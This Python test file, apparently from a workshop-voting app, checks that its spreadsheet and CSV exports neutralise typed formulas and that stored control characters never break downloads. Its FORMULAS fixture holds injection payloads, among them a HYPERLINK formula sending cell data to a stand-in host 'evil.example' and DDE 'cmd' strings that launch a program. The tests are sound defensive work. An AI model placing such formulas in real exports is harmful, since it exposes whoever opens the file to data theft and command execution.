"""Text typed in the room is data in every export: formulas stay text, control characters
already stored never break a download.

The workshop of tests/workshop_data.py, with what a mischievous participant (or an old
server that did not refuse it yet) left in the database, written straight into the store.
"""
from __future__ import annotations

import csv
import io
import json

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader
from sqlalchemy import select, update

from tests.workbooks import sheet
from tests.workshop_data import make_workshop
from workshop.services.archive_import import import_archive
from workshop.exports.csv_export import table_csv
from workshop.exports.tables import Table
from workshop.exports.xlsx import HEADER_ROW, _put
from workshop.store.db import Store
from workshop.store.models import Decision, Idea, Participant, PlanItem, Round, Vote

FORMULAS = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"หลักฐาน")',
    "idea": "+1+cmd|' /C calc'!A0",
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "role": "-2+3+cmd|' /C calc'!A0",
    "target": "=1+1",
    "owner": "\t=1+1",
}


def _first(db, model, *where):
    return db.scalars(select(model).where(*where).order_by(model.id)).first()


def plant(store, session_id: str, texts: dict[str, str]) -> None:
    """Put `texts` where people type: a vote note, an idea, a name and role, the plan target
    and owner, a decision note and a proxy's name."""
    with store.session() as db:
        person = _first(db, Participant, Participant.session_id == session_id)
        person.name, person.role = texts["name"], texts["role"]
        vote = _first(db, Vote, Vote.participant_id == person.id)
        vote.note = texts["note"]
        _first(db, Idea, Idea.session_id == session_id, Idea.hidden.is_(False)).text = texts["idea"]
        db.execute(update(PlanItem).where(PlanItem.session_id == session_id)
                   .values(target_value=texts["target"], owner=texts["owner"]))
        db.execute(update(Decision).where(Decision.session_id == session_id)
                   .values(note=texts.get("decision", texts["note"])))
        proxy = _first(db, Participant, Participant.session_id == session_id,
                       Participant.id != person.id)
        proxy.proxy, proxy.name = True, texts.get("proxy", texts["name"])


def download(organizer, session_id: str, kind: str):
    answer = organizer.get(f"/organizer/sessions/{session_id}/download/{kind}")
    assert answer.status_code == 200, (kind, answer.status_code)
    return answer.data


# --- formulas (issue 7, point 11) ----------------------------------------------------------

def every_cell(book):
    for page in book.worksheets:
        for row in page.iter_rows():
            yield from row


def test_a_formula_typed_in_the_room_is_text_in_the_workbook(organizer, store):
    workshop = make_workshop(store)
    plant(store, workshop.session_id, FORMULAS)
    book = load_workbook(io.BytesIO(download(organizer, workshop.session_id, "xlsx")))
    cells = list(every_cell(book))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value for c in cells if isinstance(c.value, str)}
    for text in FORMULAS.values():
        assert text in found, text  # shown exactly as typed, marked as text
    assert all(c.quotePrefix for c in cells if c.value in FORMULAS.values())
    votes = sheet(book, "Votes")
    levels = [row[6].value for row in votes.iter_rows(min_row=HEADER_ROW + 1)]
    assert {type(level) for level in levels} <= {int, type(None)}  # numbers stay numbers


@pytest.mark.parametrize("what", ["plan", "votes"])
def test_a_formula_typed_in_the_room_is_quoted_in_the_csv(organizer, store, what):
    workshop = make_workshop(store)
    plant(store, workshop.session_id, FORMULAS)
    data = download(organizer, workshop.session_id, f"csv-{what}").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    expected = ("target", "owner") if what == "plan" else ("note", "name", "role")
    for key in expected:
        assert "'" + FORMULAS[key] in cells, key


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted():
    table = Table(["level", "typed"], [[-3, "-3"], [-1.5, "+66 81 234 5678"]])
    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    assert rows[1:] == [["-3", "'-3"], ["-1.5", "'+66 81 234 5678"]]
    sheet = Workbook().active
    assert (_put(sheet, 1, 1, -3).data_type, _put(sheet, 1, 1, -3).value) == ("n", -3)
    typed = _put(sheet, 1, 2, "-3")
    assert (typed.data_type, typed.value, typed.quotePrefix) == ("s", "-3", True)


# --- control characters already stored (issue 7, point 12) ----------------------------------

CONTROLS = {
    "note": "มีคำสั่ง\x1b[31m แต่งตั้ง\x00",
    "idea": "bell\u0007",
    "name": "สมชาย\x0b ใจดี",
    "role": "ผู้บริหาร\x08",
    "target": "100%\x0c",
    "owner": "กลุ่มงาน\ufffe",
    "decision": "มติที่ประชุม\x1f",
    "proxy": "ผู้แทน\x7f",
}


def test_control_characters_already_stored_never_break_a_download(organizer, store, tmp_path):
    workshop = make_workshop(store)
    plant(store, workshop.session_id, CONTROLS)
    sid = workshop.session_id
    book = load_workbook(io.BytesIO(download(organizer, sid, "xlsx")))
    shown = {c.value for c in every_cell(book) if isinstance(c.value, str)}
    assert {"bell", "สมชาย ใจดี", "ผู้บริหาร", "100%", "กลุ่มงาน"} <= shown
    words = " ".join(p.text for p in Document(io.BytesIO(download(organizer, sid, "docx")))
                     .paragraphs)
    tables = " ".join(cell.text for t in Document(io.BytesIO(download(organizer, sid, "docx")))
                      .tables for row in t.rows for cell in row.cells)
    assert "กลุ่มงาน" in words + tables and "\ufffe" not in words + tables
    assert len(PdfReader(io.BytesIO(download(organizer, sid, "pdf"))).pages) >= 1
    for what in ("plan", "votes"):
        text = download(organizer, sid, f"csv-{what}").decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(text))) and "\x00" not in text and "\x1b" not in text
    archive = download(organizer, sid, "json")
    assert "bell" in [i["text"] for i in json.loads(archive)["ideas"]]
    elsewhere = Store.open(f"sqlite:///{tmp_path / 'elsewhere.sqlite3'}")
    try:  # the cleaned archive is one the strict importer accepts
        assert import_archive(elsewhere, archive).session_id == sid
    finally:
        elsewhere.dispose()
